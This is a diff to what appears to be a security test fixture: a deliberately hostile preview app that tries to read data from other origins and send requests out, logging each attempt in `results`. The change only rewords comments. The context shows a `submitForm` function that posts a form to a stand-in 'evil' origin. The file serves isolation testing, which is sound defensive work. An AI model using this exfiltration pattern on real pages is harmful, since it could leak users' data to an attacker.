@@ -1,5 +1,6 @@
-// An app in a preview that tries to read what is not its own, and to reach others. It is built as a project and is not part of
-// the product; each attempt leaves what it got in `results`.
+// A hostile app for previews: it tries to read data that is not its own, and to send requests to
+// others. It is built as a project, and is not part of the product. Each attempt stores its result
+// in `results`.
 const asked = new URLSearchParams(window.location.search)
 const [hub, evil, other] = ['hub', 'evil', 'other'].map((name) => asked.get(name))
 const hubByName = hub.replace('127.0.0.1', 'localhost')
@@ -170,7 +171,7 @@ for (const [kind, src] of Object.entries({
 await Promise.all(Object.entries(attempts).map(([name, act]) => attempt(name, act)))
 console.log('tried', results)
 window.results = results
-// This attempt leaves the page if nothing stops it, so it comes last.
+// This attempt would leave the page if it succeeded, so it is the last one.
 window.submitForm = () => {
   const form = element('form', { action: `${evil}/form`, method: 'post' })
   document.body.append(form)
